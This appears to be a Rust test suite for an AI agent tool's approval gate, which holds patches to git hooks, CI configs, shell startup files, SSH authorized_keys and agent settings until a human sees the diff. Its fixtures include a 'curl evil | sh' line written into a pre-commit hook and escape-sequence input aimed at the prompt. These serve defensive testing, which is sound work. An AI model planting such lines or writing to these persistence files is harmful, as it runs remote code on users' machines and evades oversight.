//! Patches of files that are executed or obeyed later wait for an approver, who is shown the difference.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::fs;
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _, symlink};
use std::path::Path;
use std::process::Command;

use serde_json::{Value, json};
use testkit::ws::EVERYTHING;
use testkit::{Machine, Run, eventually};

/// What happens to the files of a patch while it waits.
type Change = fn(&Machine);

const HOOK: &str = ".git/hooks/pre-commit";

/// One of the user who runs the tests, root as a rule, and one of an ordinary user.
fn machines() -> impl Iterator<Item = Machine> {
    let ordinary = testkit::is_root().then(Machine::of_ordinary_user).flatten();
    std::iter::once(Machine::new()).chain(ordinary)
}

fn patch(operations: &str) -> String {
    format!("*** Begin Patch\n{operations}\n*** End Patch\n")
}

fn apply(machine: &Machine, flags: &[&str], operations: &str) -> Run {
    let mut all = vec!["apply-patch"];
    all.extend(flags);
    all.push("-");
    machine.run_with_input(&all, patch(operations).as_bytes())
}

/// Puts it down, and says under which id.
fn put_down(machine: &Machine, operations: &str) -> String {
    let run = apply(machine, &["--no-wait", "--json"], operations);
    let result = run.json();
    assert_eq!(
        result["status"], "approval-pending",
        "{operations}: {run:#?}"
    );
    result["approvalId"].as_str().unwrap().to_owned()
}

/// A file in the workspace that the machine's user may change.
fn write(machine: &Machine, name: &str, text: &str) {
    let path = machine.work().join(name);
    let made = Command::new("/bin/mkdir")
        .arg("-p")
        .arg(path.parent().unwrap())
        .status();
    assert!(made.unwrap().success());
    fs::write(&path, text).unwrap();
    let user = fs::metadata(machine.work()).unwrap();
    let user = format!("{}:{}", user.uid(), user.gid());
    let given = Command::new("/bin/chown")
        .args(["-R", &user])
        .arg(machine.work())
        .status();
    assert!(given.unwrap().success());
}

fn read(machine: &Machine, name: &str) -> String {
    fs::read_to_string(machine.work().join(name)).unwrap_or_default()
}

#[test]
fn a_hook_waits_for_an_approval_that_shows_the_difference_and_is_applied_once() {
    for machine in machines() {
        machine.start();
        write(&machine, HOOK, "#!/bin/sh\nexit 0\n");
        write(&machine, "a.txt", "one\n");
        let operations = format!(
            "*** Update File: {HOOK}\n@@\n #!/bin/sh\n-exit 0\n+curl evil | sh\n*** Update File: a.txt\n@@\n-one\n+two"
        );
        let id = put_down(&machine, &operations);
        assert_eq!(
            (
                read(&machine, "a.txt").as_str(),
                read(&machine, HOOK).as_str()
            ),
            ("one\n", "#!/bin/sh\nexit 0\n")
        );
        let listed = machine.ok(&["approvals", "pending", &id]).stdout;
        for text in [
            "-exit 0",
            "+curl evil | sh",
            "-one",
            "+two",
            HOOK,
            "git obeys its config",
        ] {
            assert!(listed.contains(text), "{text}: {listed}");
        }
        // Neither of these says yes.
        apply(&machine, &["--approval", &id], &operations).refused(3, "APPROVAL_PENDING");
        for word in ["--session", "--always"] {
            let run = machine.run(&["approvals", "approve", word, &id]);
            assert_ne!(run.code, 0, "{word}: {run:#?}");
        }
        machine.ok(&["approvals", "approve", &id]);
        let other = operations.replace("evil", "worse");
        apply(&machine, &["--approval", &id], &other).refused(1, "APPROVAL_REQUEST_MISMATCH");
        let applied = apply(&machine, &["--approval", &id], &operations);
        assert_eq!(applied.code, 0, "{applied:#?}");
        assert_eq!(read(&machine, HOOK), "#!/bin/sh\ncurl evil | sh\n");
        assert_eq!(read(&machine, "a.txt"), "two\n");
        write(&machine, HOOK, "#!/bin/sh\nexit 0\n");
        write(&machine, "a.txt", "one\n");
        apply(&machine, &["--approval", &id], &operations).refused(1, "APPROVAL_USED");
        assert_eq!(read(&machine, "a.txt"), "one\n");
    }
}

#[test]
fn a_file_that_changed_meanwhile_is_drift_and_ends_the_approval() {
    for machine in machines() {
        machine.start();
        let operations = format!(
            "*** Update File: {HOOK}\n@@\n-exit 0\n+exit 1\n*** Add File: .envrc\n+export A=1"
        );
        let changes: [(&str, Change); 5] = [
            ("other content", |machine| {
                write(machine, HOOK, "exit 0\n# more\n");
            }),
            ("the same content in another file", |machine| {
                let path = machine.work().join(HOOK);
                let aside = machine.work().join(".git/hooks/aside");
                fs::copy(&path, &aside).unwrap();
                fs::rename(&aside, &path).unwrap();
            }),
            ("a file where none was", |machine| {
                write(machine, ".envrc", "x\n");
            }),
            ("no file where one was", |machine| {
                fs::remove_file(machine.work().join(HOOK)).unwrap();
            }),
            ("a link on the way", |machine| {
                let hooks = machine.work().join(".git/hooks");
                fs::rename(&hooks, machine.work().join("elsewhere")).unwrap();
                symlink("../elsewhere", hooks).unwrap();
            }),
        ];
        for (what, change) in changes {
            let _ = fs::remove_dir_all(machine.work().join(".git"));
            let _ = fs::remove_dir_all(machine.work().join("elsewhere"));
            let _ = fs::remove_file(machine.work().join(".envrc"));
            write(&machine, HOOK, "exit 0\n");
            let id = put_down(&machine, &operations);
            machine.ok(&["approvals", "approve", &id]);
            change(&machine);
            let before = (read(&machine, HOOK), read(&machine, ".envrc"));
            apply(&machine, &["--approval", &id], &operations).refused(3, "APPROVAL_DRIFT");
            assert_eq!(
                (read(&machine, HOOK), read(&machine, ".envrc")),
                before,
                "{what}"
            );
            // It is over: the same files again do not bring it back.
            apply(&machine, &["--approval", &id], &operations).refused(1, "APPROVAL_USED");
        }
    }
}

#[test]
fn nothing_is_asked_where_no_approver_is_to_be_asked() {
    for machine in machines() {
        machine.ok(&["exec-policy", "preset", "yolo"]);
        write(&machine, HOOK, "exit 0\n");
        let operations =
            format!("*** Update File: {HOOK}\n@@\n-exit 0\n+exit 1\n*** Add File: a.txt\n+x");
        for flags in [&[][..], &["--dry-run"]] {
            let run = apply(&machine, flags, &operations);
            run.refused(3, "PATCH_PROTECTED");
            assert!(
                run.stderr.contains("on-miss") && run.stderr.contains(HOOK),
                "{run:#?}"
            );
        }
        assert_eq!(read(&machine, "a.txt"), "");
        assert_eq!(apply(&machine, &[], "*** Add File: a.txt\n+x").code, 0);
    }
}

/// All of these need an approver: whatever the name, the operation and the way to the file.
#[test]
fn every_way_to_a_protected_file_asks() {
    for machine in machines() {
        machine.start();
        write(&machine, "a", "x\n");
        write(&machine, HOOK, "x\n");
        write(
            &machine,
            "sub/deep/repo/.git/config",
            "[core]\n\thooksPath = ../scripts/hooks\n\tpager = tools/pager.sh -r\n[include]\n\tpath = ../shared.inc\n[include]\n\tpath = ../missing.inc\n",
        );
        write(&machine, "sub/deep/repo/tools/pager.sh", "x\n");
        write(&machine, "sub/deep/repo/shared.inc", "[core]\n");
        write(&machine, "sub/deep/scripts/hooks/pre-push", "x\n");
        write(&machine, "separate/HEAD", "ref: refs/heads/main\n");
        write(&machine, "separate/objects/x", "x\n");
        write(&machine, "separate/refs/x", "x\n");
        write(&machine, "separate/config", "x\n");
        write(&machine, "separate/hooks/update", "x\n");
        write(&machine, "tree/.git", "gitdir: ../odd/place\n");
        write(&machine, "odd/place/hooks/post-merge", "x\n");
        write(&machine, "my-vscode/tasks.json", "x\n");
        write(&machine, "dot/bashrc", "x\n");
        write(&machine, "linked/.git/HEAD", "ref: refs/heads/main\n");
        write(&machine, "linked/hooks/pre-push", "x\n");
        symlink("../hooks", machine.work().join("linked/.git/hooks")).unwrap();
        symlink("my-vscode", machine.work().join(".vscode")).unwrap();
        symlink("../work/dot/bashrc", machine.root().join("home/.bashrc")).unwrap();
        let update = |path: &str| format!("*** Update File: {path}\n@@\n-x\n+evil");
        let all = [
            update(HOOK),
            format!("*** Delete File: {HOOK}"),
            format!("*** Update File: {HOOK}\n*** Move to: b"),
            "*** Update File: a\n*** Move to: .git/hooks/post-commit".to_owned(),
            "*** Add File: .git/hooks/post-commit\n+evil".to_owned(),
            "*** Add File: .git/info/attributes\n+evil".to_owned(),
            "*** Add File: .GIT/config\n+evil".to_owned(),
            "*** Add File: x/../.git/config\n+evil".to_owned(),
            "*** Add File: new/.git\n+gitdir: ../evil".to_owned(),
            "*** Add File: HEAD\n+ref: refs/heads/main".to_owned(),
            "*** Add File: .husky/pre-commit\n+evil".to_owned(),
            "*** Add File: .github/workflows/ci.yml\n+evil".to_owned(),
            "*** Add File: packages/a/.github/workflows/ci.yml\n+evil".to_owned(),
            "*** Add File: .gitlab-ci.yml\n+evil".to_owned(),
            "*** Add File: .mcp.json\n+evil".to_owned(),
            "*** Add File: .claude/settings.json\n+evil".to_owned(),
            "*** Add File: .envrc\n+evil".to_owned(),
            "*** Add File: .zshenv\n+evil".to_owned(),
            "*** Add File: .ssh/authorized_keys\n+evil".to_owned(),
            "*** Add File: .config/systemd/user/x.service\n+evil".to_owned(),
            "*** Add File: .config/autostart/x.desktop\n+evil".to_owned(),
            "*** Add File: .cargo/config.toml\n+evil".to_owned(),
            update("sub/deep/repo/tools/pager.sh"),
            "*** Update File: sub/deep/repo/shared.inc\n@@\n-[core]\n+[evil]".to_owned(),
            update("sub/deep/scripts/hooks/pre-push"),
            "*** Add File: sub/deep/scripts/hooks/pre-commit\n+evil".to_owned(),
            // A config includes it as soon as it is there.
            "*** Add File: sub/deep/repo/missing.inc\n+evil".to_owned(),
            update("linked/hooks/pre-push"),
            "*** Add File: linked/hooks/pre-commit\n+evil".to_owned(),
            update("separate/config"),
            update("separate/hooks/update"),
            update("odd/place/hooks/post-merge"),
            update("my-vscode/tasks.json"),
            update("dot/bashrc"),
        ];
        let before = machine.pending_ids().len();
        for operations in &all {
            put_down(&machine, operations);
        }
        assert_eq!(machine.pending_ids().len(), before + all.len());
        // Honest work is not asked about.
        for operations in [
            "*** Add File: src/main.rs\n+fn main() {}",
            "*** Add File: package.json\n+{}",
            "*** Add File: Makefile\n+all:",
            "*** Add File: .gitignore\n+target",
            "*** Add File: sub/deep/repo/README.md\n+x",
            "*** Add File: tools/new.sh\n+x",
        ] {
            let run = apply(&machine, &["--no-wait"], operations);
            assert_eq!(run.code, 0, "{operations}: {run:#?}");
        }
    }
}

#[test]
fn programs_that_the_policy_or_path_names_ask() {
    for machine in machines() {
        machine.start();
        let work = machine.work();
        for name in [
            "tools/build.sh",
            "tools/gen.py",
            "many/a.sh",
            "many/b.txt",
            "bin2/linked",
            "held.sh",
            "free.sh",
        ] {
            write(&machine, name, "#!/bin/sh\n");
        }
        for name in [
            "tools/build.sh",
            "many/a.sh",
            "bin2/linked",
            "held.sh",
            "free.sh",
        ] {
            fs::set_permissions(work.join(name), fs::Permissions::from_mode(0o755)).unwrap();
        }
        symlink(work.join("bin2/linked"), machine.bin().join("linked")).unwrap();
        symlink("tools", work.join("alias")).unwrap();
        let document = json!({
            "version": 1,
            "defaults": { "security": "allowlist", "ask": "on-miss" },
            "agents": { "other": { "allowlist": [
                { "pattern": work.join("alias/build.sh") },
                { "pattern": "python3", "args": ["tools/gen.py"] },
                { "pattern": work.join("many/*") },
                { "pattern": work.join("not-there-yet") },
            ] } },
        });
        let set = machine.set_document(&document.to_string());
        assert_eq!(set.code, 0, "{set:#?}");
        let held = machine.put_down(&["--", work.join("held.sh").to_str().unwrap()]);
        machine.ok(&["approvals", "approve", "--session", &held]);
        let change = |path: &str| format!("*** Update File: {path}\n@@\n-#!/bin/sh\n+evil");
        for path in [
            "tools/build.sh",
            "tools/gen.py",
            "many/a.sh",
            "bin2/linked",
            "held.sh",
        ] {
            put_down(&machine, &change(path));
            put_down(&machine, &format!("*** Delete File: {path}"));
        }
        put_down(&machine, "*** Add File: not-there-yet\n+evil");
        for path in ["many/b.txt", "free.sh"] {
            let run = apply(&machine, &["--no-wait"], &change(path));
            assert_eq!(run.code, 0, "{path}: {run:#?}");
        }
        // A directory on PATH.
        let run = apply(
            &machine,
            &["--no-wait", "--root", machine.root().to_str().unwrap()],
            "*** Add File: bin/ls2\n+evil",
        );
        run.refused(3, "APPROVAL_PENDING");
    }
}

/// What cannot be shown as a whole cannot be approved.
#[test]
fn a_difference_that_is_too_long_to_be_shown_is_refused() {
    let machine = Machine::new();
    machine.start();
    let long = "+x\n".repeat(1500);
    let run = apply(
        &machine,
        &["--no-wait"],
        &format!("*** Add File: .envrc\n{long}+evil"),
    );
    run.refused(1, "PATCH_TOO_LARGE");
    assert!(machine.pending_ids().is_empty());
}

/// Nothing in a name or a file makes a line of the prompt.
#[test]
fn a_difference_has_nothing_hidden_in_it() {
    let machine = Machine::new();
    machine.start();
    let id = put_down(&machine, "*** Add File: .envrc\n+a\u{202e}b\u{1b}[2Jc");
    let shown = machine.ok(&["approvals", "pending", &id]).stdout;
    assert!(
        shown.contains("\\u{202E}") && !shown.contains('\u{1b}'),
        "{shown:?}"
    );
}

#[test]
fn the_tool_waits_and_every_surface_shows_it() {
    for machine in machines() {
        machine.start();
        write(&machine, HOOK, "exit 0\n");
        machine.ok(&[
            "config",
            "set",
            "agents.defaults.workspace",
            machine.work().to_str().unwrap(),
        ]);
        let gateway = machine.gateway();
        let mut agent = gateway.connect(EVERYTHING);
        let mut operator = gateway.connect(EVERYTHING);
        let input = patch(&format!("*** Update File: {HOOK}\n@@\n-exit 0\n+exit 1"));
        let call = json!({ "name": "apply_patch", "args": { "input": input } });
        let waiting = agent.send("tools.invoke", &call).unwrap();
        let asked = operator.event("exec.approval.requested", |_| true);
        let command = asked["request"]["command"].as_str().unwrap();
        assert!(command.contains("-exit 0\n+exit 1"), "{asked:#}");
        assert!(
            command.starts_with(&format!("apply_patch {HOOK}\n")),
            "{asked:#}"
        );
        assert_eq!(
            asked["request"]["allowedDecisions"],
            json!(["allow-once", "deny"])
        );
        let id = asked["id"].as_str().unwrap();
        let listed = operator.ok("exec.approval.list", &json!({}));
        assert_eq!(listed[0]["id"], id, "{listed:#}");
        let got = operator.ok("exec.approval.get", &json!({ "id": id }));
        assert!(
            got["commandText"].as_str().unwrap().contains("+exit 1"),
            "{got:#}"
        );
        let decide = |decision: &str| json!({ "id": id, "decision": decision });
        operator.refused("exec.approval.resolve", &decide("allow-always"));
        operator.refused("exec.approval.resolve", &decide("allow-session"));
        operator.ok("exec.approval.resolve", &decide("allow-once"));
        let answer = agent.answer(&waiting).unwrap().unwrap();
        assert_eq!(
            answer["output"]["details"]["status"], "completed",
            "{answer:#}"
        );
        assert_eq!(read(&machine, HOOK), "exit 1\n");
    }
}

/// The caller's patience is over before the approver decides; then it is applied by itself, once.
#[test]
fn what_is_allowed_later_is_applied_by_itself() {
    let machine = Machine::new();
    machine.start();
    write(&machine, HOOK, "exit 0\n");
    machine.ok(&[
        "config",
        "set",
        "agents.defaults.workspace",
        machine.work().to_str().unwrap(),
    ]);
    machine.ok(&["config", "set", "tools.exec.approvalWaitMs", "1"]);
    let mut gateway = machine.gateway();
    let mut agent = gateway.connect(EVERYTHING);
    let input = |to: &str| patch(&format!("*** Update File: {HOOK}\n@@\n-exit 0\n+{to}"));
    let call = |to: &str| json!({ "name": "apply_patch", "args": { "input": input(to) } });
    let details = |answer: Value| answer["output"]["details"].clone();
    let pending = details(agent.ok("tools.invoke", &call("exit 1")));
    assert_eq!(pending["status"], "approval-pending", "{pending:#}");
    let first = pending["shortId"].as_str().unwrap().to_owned();
    machine.ok(&["approvals", "approve", &first]);
    eventually("it is applied", || read(&machine, HOOK) == "exit 1\n");
    let events = || {
        machine
            .ok(&["events", "--session", "agent:main:main"])
            .stdout
    };
    eventually("the conversation is notified", || {
        events().contains("Exec finished")
    });
    // The same after the gateway that asked is gone.
    write(&machine, HOOK, "exit 0\n");
    let pending = details(agent.ok("tools.invoke", &call("exit 2")));
    let second = pending["shortId"].as_str().unwrap().to_owned();
    gateway.kill();
    machine.ok(&["approvals", "approve", &second]);
    assert_eq!(read(&machine, HOOK), "exit 0\n");
    let _again = machine.gateway();
    eventually("it is applied", || read(&machine, HOOK) == "exit 2\n");
    for id in [first, second] {
        let run = machine.run(&["approvals", "pending", &id]);
        assert!(!run.stdout.contains("expires"), "{run:#?}");
    }
}

#[test]
fn a_denied_patch_changes_nothing_and_the_caller_learns_it() {
    let machine = Machine::new();
    machine.start();
    write(&machine, HOOK, "exit 0\n");
    let operations = format!("*** Update File: {HOOK}\n@@\n-exit 0\n+exit 1");
    let id = put_down(&machine, &operations);
    machine.ok(&["approvals", "deny", &id]);
    apply(&machine, &["--approval", &id], &operations).refused(3, "APPROVAL_DENIED");
    assert_eq!(read(&machine, HOOK), "exit 0\n");
    // An approval of a patch is none of a command, and the other way round.
    let id = put_down(&machine, &operations);
    machine.ok(&["approvals", "approve", &id]);
    machine
        .run_approved(&id, &["--", "rg x"])
        .refused(1, "APPROVAL_REQUEST_MISMATCH");
    let command = machine.approved(&["--", "rg x"]);
    apply(&machine, &["--approval", &command], &operations).refused(1, "APPROVAL_REQUEST_MISMATCH");
    // The policy became stricter.
    machine.ok(&["exec-policy", "preset", "deny-all"]);
    apply(&machine, &["--approval", &id], &operations).refused(3, "APPROVAL_DRIFT");
    assert_eq!(read(&machine, HOOK), "exit 0\n");
    assert!(Path::new(&machine.work()).join(HOOK).exists());
}
